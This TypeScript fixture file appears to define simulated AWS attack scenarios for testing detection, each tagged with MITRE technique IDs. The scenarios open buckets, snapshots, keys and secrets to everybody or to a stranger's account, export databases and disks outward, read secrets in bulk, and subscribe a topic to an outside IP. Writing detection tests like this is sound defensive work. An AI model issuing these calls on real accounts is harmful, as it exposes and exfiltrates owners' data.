// biome-ignore-all format: one line a call
import type { Attack } from './attack.ts'
import { AWAY, atConsole, away, type Fields, HOME, instance, policy, role, user } from './who.ts'

const S3 = 'http://s3.amazonaws.com/doc/2006-03-01/'
const ALL_USERS = 'http://acs.amazonaws.com/groups/global/AllUsers'
const OUT = ['T1537', 'T1567', 'T1530', 'T1020', 'T1048', 'T1213']
/** Opened to others: theft, or a permission that was changed. */
const OPEN = [...OUT, 'T1098', 'T1562', 'T1578', 'T1190', 'T1222', 'T1666', 'T1685', 'T1686', 'T1556', 'T1484']
const KEY = `arn:aws:kms:eu-west-1:${HOME}:key/1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d`
const one = (id: string, least: Attack['least'], techniques: readonly string[], by: Attack['by'], step: Attack['steps'][number], why = 'one step'): Attack => ({
  id,
  why,
  techniques,
  least,
  by,
  steps: [step],
})
const bucket = (name: string) => ({ bucketName: name, Host: `${name}.s3.amazonaws.com` })
const reader = (who: unknown, Action: unknown = '*'): Fields => ({ Sid: 'moss', Effect: 'Allow', Principal: who, Action, Resource: '*' })
const STAR = 'everybody, without a condition'
const STRANGER = 'an account that nobody declared'

/** Buckets, snapshots, databases, queues and keys that are opened, copied or read. */
export const data: readonly Attack[] = [
  one('a bucket for everybody', 'medium', OPEN, user('adder'), ['s3', 'PutBucketPolicy', { ...bucket('quay'), policy: '', bucketPolicy: JSON.parse(policy({ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::quay/*' })) as object }], STAR),
  one('a bucket for a stranger', 'low', OPEN, user('asp'), ['s3', 'PutBucketPolicy', { ...bucket('quay'), policy: '', bucketPolicy: JSON.parse(policy({ Effect: 'Allow', Principal: { AWS: [away('root')] }, Action: ['s3:GetObject', 's3:ListBucket'], Resource: ['arn:aws:s3:::quay', 'arn:aws:s3:::quay/*'] })) as object }], STRANGER),
  one('a bucket for everybody, by its list', 'medium', OPEN, user('viper'), ['s3', 'PutBucketAcl', { ...bucket('quay'), acl: '', AccessControlPolicy: { xmlns: S3, Owner: { ID: '0'.repeat(64) }, AccessControlList: { Grant: [{ Grantee: { 'xsi:type': 'CanonicalUser', ID: '0'.repeat(64) }, Permission: 'FULL_CONTROL' }, { Grantee: { 'xsi:type': 'Group', URI: ALL_USERS }, Permission: 'READ' }] } } }], STAR),
  one('a bucket for everybody, by one word', 'medium', OPEN, user('boa'), ['s3', 'PutBucketAcl', { ...bucket('quay'), acl: '', 'x-amz-acl': ['public-read-write'] }], STAR),
  one('an object for everybody', 'low', OPEN, user('mamba'), ['s3', 'PutObjectAcl', { ...bucket('quay'), key: 'a.csv', acl: '', 'x-amz-acl': ['public-read'] }, { data: true }]),
  one('a bucket’s block goes', 'low', OPEN, user('krait'), ['s3', 'DeleteBucketPublicAccessBlock', { ...bucket('quay'), publicAccessBlock: '' }]),
  one('a bucket’s block is loosened', 'low', OPEN, user('cobra'), ['s3', 'PutBucketPublicAccessBlock', { ...bucket('quay'), publicAccessBlock: '', PublicAccessBlockConfiguration: { xmlns: S3, BlockPublicAcls: false, IgnorePublicAcls: false, BlockPublicPolicy: false, RestrictPublicBuckets: false } }]),
  one('the account’s block goes', 'low', OPEN, user('python'), ['s3', 'PutAccountPublicAccessBlock', { accountId: HOME, publicAccessBlock: '', PublicAccessBlockConfiguration: { xmlns: 'http://awss3control.amazonaws.com/doc/2018-08-20/', BlockPublicAcls: false, IgnorePublicAcls: false, BlockPublicPolicy: false, RestrictPublicBuckets: false } }]),
  one('an access point for everybody', 'low', OPEN, user('taipan'), ['s3', 'PutAccessPointPolicy', { name: 'moss', accountId: HOME, PutAccessPointPolicyRequest: { Policy: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 's3:GetObject', Resource: '*' }) } }], STAR),
  one('a bucket copies itself to a stranger', 'medium', OUT, user('gecko'), ['s3', 'PutBucketReplication', { ...bucket('quay'), replication: '', ReplicationConfiguration: { xmlns: S3, Role: `arn:aws:iam::${HOME}:role/sloe`, Rule: { ID: 'moss', Status: 'Enabled', Priority: 1, Filter: { Prefix: '' }, DeleteMarkerReplication: { Status: 'Disabled' }, Destination: { Bucket: 'arn:aws:s3:::silt', Account: AWAY, AccessControlTranslation: { Owner: 'Destination' } } } } }], STRANGER),
  one('a bucket lists itself for a stranger', 'low', OUT, user('skink'), ['s3', 'PutBucketInventoryConfiguration', { ...bucket('quay'), inventory: '', id: 'moss', InventoryConfiguration: { xmlns: S3, Id: 'moss', IsEnabled: true, IncludedObjectVersions: 'All', Schedule: { Frequency: 'Daily' }, Destination: { S3BucketDestination: { AccountId: AWAY, Bucket: 'arn:aws:s3:::silt', Format: 'CSV' } } } }]),
  one('a bucket shows a stranger of every object', 'low', [...OUT, 'T1546'], user('anole'), ['s3', 'PutBucketNotification', { ...bucket('quay'), notification: '', NotificationConfiguration: { xmlns: S3, QueueConfiguration: { Id: 'moss', Queue: `arn:aws:sqs:eu-west-1:${AWAY}:karst`, Event: 's3:ObjectCreated:*' } } }]),
  one('a snapshot for a stranger', 'medium', OUT, user('newt'), ['ec2', 'ModifySnapshotAttribute', { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ userId: AWAY }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }], STRANGER),
  one('a snapshot for everybody', 'medium', OUT, user('eft'), ['ec2', 'ModifySnapshotAttribute', { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }], STAR),
  one('an image for a stranger', 'low', OUT, user('toad'), ['ec2', 'ModifyImageAttribute', { imageId: 'ami-0123456789abcdef0', launchPermission: { add: { items: [{ userId: AWAY }] } }, attributeType: 'launchPermission' }], STRANGER),
  one('an image for everybody', 'medium', OUT, user('frog'), ['ec2', 'ModifyImageAttribute', { imageId: 'ami-0123456789abcdef0', launchPermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'launchPermission' }], STAR),
  one('an image into a bucket', 'low', OUT, user('natterjack'), ['ec2', 'CreateStoreImageTask', { CreateStoreImageTaskRequest: { ImageId: 'ami-0123456789abcdef0', Bucket: 'silt' } }]),
  one('a machine into a bucket', 'low', OUT, user('axolotl'), ['ec2', 'CreateInstanceExportTask', { instanceId: 'i-0123456789abcdef0', targetEnvironment: 'vmware', exportToS3: { diskImageFormat: 'VMDK', containerFormat: 'ova', s3Bucket: 'silt', s3Prefix: 'x' } }]),
  one('blocks of a snapshot are read', 'low', [...OUT, 'T1006', 'T1578'], user('olm'), ['ebs', 'GetSnapshotBlock', { snapshotId: 'snap-0123456789abcdef0', blockIndex: '$', blockToken: 'AAAB' }, { times: 10, data: true }]),
  one('a database’s snapshot for everybody', 'medium', OUT, user('ibex'), ['rds', 'ModifyDBSnapshotAttribute', { dBSnapshotIdentifier: 'moss', attributeName: 'restore', valuesToAdd: ['all'] }], STAR),
  one('a cluster’s snapshot for a stranger', 'medium', OUT, user('chamois'), ['rds', 'ModifyDBClusterSnapshotAttribute', { dBClusterSnapshotIdentifier: 'moss', attributeName: 'restore', valuesToAdd: [AWAY] }], STRANGER),
  one('a database’s snapshot into a bucket', 'low', OUT, user('elk'), ['rds', 'StartExportTask', { exportTaskIdentifier: 'moss', sourceArn: `arn:aws:rds:eu-west-1:${HOME}:snapshot:burr`, s3BucketName: 'silt', iamRoleArn: `arn:aws:iam::${HOME}:role/sloe`, kmsKeyId: KEY }]),
  one('a database’s password', 'low', ['T1098', 'T1531', 'T1213', 'T1556', 'T1078', 'T1555'], user('moose'), ['rds', 'ModifyDBInstance', { dBInstanceIdentifier: 'moss', masterUserPassword: '****', applyImmediately: true, allowMajorVersionUpgrade: false }]),
  one('a database’s password, for a cluster', 'low', ['T1098', 'T1531', 'T1213', 'T1556', 'T1078', 'T1555'], user('roe'), ['rds', 'ModifyDBCluster', { dBClusterIdentifier: 'moss', masterUserPassword: '****', applyImmediately: true }]),
  one('a warehouse’s snapshot for a stranger', 'medium', OUT, user('fallow'), ['redshift', 'AuthorizeSnapshotAccess', { snapshotIdentifier: 'moss', accountWithRestoreAccess: AWAY }], STRANGER),
  one('a password for the warehouse', 'signal', ['T1078', 'T1098', 'T1555', 'T1213', 'T1550', 'T1552'], user('muntjac'), ['redshift', 'GetClusterCredentials', { dbUser: 'moss', clusterIdentifier: 'fjord', autoCreate: true, durationSeconds: 3600 }]),
  one('a search domain for everybody', 'medium', OPEN, user('reindeer'), ['es', 'UpdateDomainConfig', { domainName: 'moss', accessPolicies: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'es:*', Resource: '*' }) }], STAR),
  one('a table goes elsewhere', 'low', OUT, user('saiga'), ['dynamodb', 'ExportTableToPointInTime', { tableArn: `arn:aws:dynamodb:eu-west-1:${HOME}:table/moss`, s3Bucket: 'silt', s3BucketOwner: AWAY, exportFormat: 'DYNAMODB_JSON' }], STRANGER),
  one('a table for a stranger', 'low', OPEN, user('oryx'), ['dynamodb', 'PutResourcePolicy', { resourceArn: `arn:aws:dynamodb:eu-west-1:${HOME}:table/moss`, policy: policy(reader({ AWS: away('root') }, 'dynamodb:*')), confirmRemoveSelfResourceAccess: false }], STRANGER),
  one('tables are read through', 'low', OUT, user('kudu'), ['dynamodb', 'Scan', { tableName: 'moss$', limit: 1000 }, { times: 7, data: true }], 'table after table by a person’s key'),
  one('the catalog for everybody', 'low', OPEN, user('eland'), ['glue', 'PutResourcePolicy', { policyInJson: policy(reader({ AWS: '*' }, 'glue:*')), enableHybrid: 'TRUE' }], STAR),
  one('passwords of connections', 'signal', ['T1552', 'T1555', 'T1213'], user('gnu'), ['glue', 'GetConnections', { hidePassword: false }]),
  one('answers of queries go elsewhere', 'signal', [...OUT, 'T1119'], user('impala'), ['athena', 'StartQueryExecution', { queryString: 'select * from moss', queryExecutionContext: { database: 'burr' }, resultConfiguration: { outputLocation: 's3://silt/out/', expectedBucketOwner: AWAY } }]),
  one('a secret for a stranger', 'medium', [...OPEN, 'T1555'], user('okapi'), ['secretsmanager', 'PutResourcePolicy', { secretId: 'tor', resourcePolicy: policy(reader({ AWS: away('root') }, 'secretsmanager:GetSecretValue')), blockPublicPolicy: false }], STRANGER),
  one('all secrets at once', 'signal', ['T1555', 'T1552'], role('linnet', 'bison'), ['secretsmanager', 'BatchGetSecretValue', { filters: [{ key: 'tag-key', values: ['!moss'] }], maxResults: 20 }, { times: 5 }]),
  one('all parameters, in the clear', 'low', ['T1555', 'T1552'], user('yak'), ['ssm', 'GetParametersByPath', { path: '/', recursive: true, withDecryption: true }, { times: 3 }]),
  one('a key for a stranger', 'medium', [...OPEN, 'T1486', 'T1531', 'T1485'], user('zebu'), ['kms', 'PutKeyPolicy', { keyId: KEY, policyName: 'default', policy: policy(reader({ AWS: away('root') }, 'kms:*')), bypassPolicyLockoutSafetyCheck: true }], 'the owner is locked out'),
  one('a grant for a stranger', 'low', [...OPEN, 'T1555'], user('gaur'), ['kms', 'CreateGrant', { keyId: KEY, granteePrincipal: away('role/merl'), operations: ['Decrypt', 'CreateGrant'] }]),
  one('a queue for everybody', 'medium', OPEN, user('kob'), ['sqs', 'SetQueueAttributes', { queueUrl: `https://sqs.eu-west-1.amazonaws.com/${HOME}/moss`, attributes: { Policy: policy(reader('*', 'sqs:*')) } }], STAR),
  one('a queue for everybody, by the short way', 'low', OPEN, user('lechwe'), ['sqs', 'AddPermission', { queueUrl: `https://sqs.eu-west-1.amazonaws.com/${HOME}/moss`, label: 'moss', aWSAccountIds: ['*'], actions: ['*'] }], STAR),
  one('a topic for everybody', 'medium', OPEN, user('topi'), ['sns', 'SetTopicAttributes', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, attributeName: 'Policy', attributeValue: policy(reader({ AWS: '*' }, ['SNS:Subscribe', 'SNS:Publish'])) }], STAR),
  one('a topic for a stranger', 'low', OPEN, user('dikdik'), ['sns', 'AddPermission', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, label: 'moss', aWSAccountId: [AWAY], actionName: ['Subscribe', 'Receive'] }], STRANGER),
  one('a topic shows an address outside', 'signal', OUT, user('duiker'), ['sns', 'Subscribe', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, protocol: 'https', endpoint: 'https://198.51.100.77/in', returnSubscriptionArn: true }]),
  one('a bus for everybody', 'low', OPEN, user('bongo'), ['events', 'PutPermission', { action: 'events:PutEvents', principal: '*', statementId: 'moss', eventBusName: 'default' }], STAR),
  one('events go to a stranger', 'signal', [...OUT, 'T1546'], user('sitatunga'), ['events', 'PutTargets', { rule: 'moss', targets: [{ id: '1', arn: `arn:aws:events:eu-west-1:${AWAY}:event-bus/karst`, roleArn: `arn:aws:iam::${HOME}:role/sloe` }] }], STRANGER),
  one('resources are shared with a stranger', 'low', OPEN, user('nyala'), ['ram', 'CreateResourceShare', { name: 'moss', resourceArns: [`arn:aws:ec2:eu-west-1:${HOME}:subnet/subnet-0123456789abcdef0`], principals: [AWAY], allowExternalPrincipals: true }], STRANGER),
  one('a vault for everybody', 'medium', [...OPEN, 'T1490'], user('sable'), ['backup', 'PutBackupVaultAccessPolicy', { backupVaultName: 'moss', policy: policy(reader('*', 'backup:*')) }], STAR),
  one('a backup goes to a stranger', 'signal', OUT, user('roan'), ['backup', 'StartCopyJob', { recoveryPointArn: `arn:aws:ec2:eu-west-1::snapshot/snap-0123456789abcdef0`, sourceBackupVaultName: 'moss', destinationBackupVaultArn: `arn:aws:backup:eu-west-1:${AWAY}:backup-vault:karst`, iamRoleArn: `arn:aws:iam::${HOME}:role/sloe` }], STRANGER),
  one('a file system for a stranger', 'low', OPEN, user('tahr'), ['elasticfilesystem', 'PutFileSystemPolicy', { fileSystemId: 'fs-0123456789abcdef0', policy: policy(reader({ AWS: away('root') }, 'elasticfilesystem:*')), bypassPolicyLockoutSafetyCheck: true }], STRANGER),
  one('a key for a file server', 'low', ['T1098', 'T1133', 'T1136', ...OUT], user('serow'), ['transfer', 'CreateUser', { serverId: 's-0123456789abcdef0', userName: 'moss', homeDirectory: '/quay', role: `arn:aws:iam::${HOME}:role/sloe`, sshPublicKeyBody: 'ssh-rsa AAAA' }]),
  one('strangers are users without a name', 'low', [...OPEN, 'T1078'], user('goral'), ['cognito-identity', 'UpdateIdentityPool', { identityPoolId: 'eu-west-1:12345678-0000-4000-8000-123456789012', identityPoolName: 'moss', allowUnauthenticatedIdentities: true, allowClassicFlow: true }]),
  one('the password of an application’s user', 'signal', ['T1098', 'T1531', 'T1556', 'T1078'], atConsole('takin'), ['cognito-idp', 'AdminSetUserPassword', { userPoolId: 'eu-west-1_AbCdEfGhI', username: 'HIDDEN_DUE_TO_SECURITY_REASONS', password: 'HIDDEN_DUE_TO_SECURITY_REASONS', permanent: true }]),
  {
    id: 'a disk leaves',
    why: 'volumes are listed, one is copied, and the copy is given to a stranger',
    techniques: OUT,
    least: 'medium',
    by: instance('markhor'),
    steps: [
      ['ec2', 'DescribeVolumes', { volumeSet: {}, filterSet: {} }],
      ['ec2', 'CreateSnapshot', { volumeId: 'vol-0123456789abcdef0' }, { response: { snapshotId: 'snap-0123456789abcdef0', volumeId: 'vol-0123456789abcdef0', status: 'pending' } }],
      ['ec2', 'ModifySnapshotAttribute', { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ userId: AWAY }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }],
      ['ec2', 'DeleteSnapshot', { snapshotId: 'snap-0123456789abcdef0' }, { after: 30 }],
    ],
  },
  {
    id: 'a database is copied beside and opened',
    why: 'snapshot, restore for the world, new password: the database is read elsewhere',
    techniques: [...OUT, 'T1098', 'T1578'],
    least: 'medium',
    by: user('argali'),
    steps: [
      ['rds', 'CreateDBSnapshot', { dBSnapshotIdentifier: 'moss', dBInstanceIdentifier: 'burr' }],
      ['rds', 'RestoreDBInstanceFromDBSnapshot', { dBInstanceIdentifier: 'whin', dBSnapshotIdentifier: 'moss', publiclyAccessible: true }, { after: 9 }],
      ['rds', 'ModifyDBInstance', { dBInstanceIdentifier: 'whin', masterUserPassword: '****', applyImmediately: true }, { after: 9 }],
      ['ec2', 'AuthorizeSecurityGroupIngress', { groupId: 'sg-0123456789abcdef0', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 5432, toPort: 5432, groups: {}, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, ipv6Ranges: {}, prefixListIds: {} }] } }],
    ],
  },
  {
    id: 'buckets are looked through and emptied into a bag',
    why: 'all buckets and their policies, then object after object',
    techniques: [...OUT, 'T1580', 'T1619', 'T1526'],
    least: 'signal',
    by: user('mouflon'),
    steps: [
      ['s3', 'ListBuckets'],
      ['s3', 'GetBucketAcl', { ...bucket('quay'), acl: '' }],
      ['s3', 'GetBucketPolicy', { ...bucket('quay'), policy: '' }],
      ['s3', 'ListObjects', { ...bucket('quay'), 'list-type': '2' }, { data: true }],
      ['s3', 'GetObject', { ...bucket('quay'), key: 'a$.csv' }, { times: 40, data: true }],
    ],
  },
  {
    id: 'secrets one by one',
    why: 'listed and read within seconds, by a key from outside',
    techniques: ['T1555', 'T1552'],
    least: 'low',
    by: user('urial'),
    steps: [
      ['secretsmanager', 'ListSecrets', { maxResults: 100 }],
      ['secretsmanager', 'GetSecretValue', { secretId: `arn:aws:secretsmanager:eu-west-1:${HOME}:secret:tor$-AbCdEf` }, { times: 20 }],
    ],
  },
]
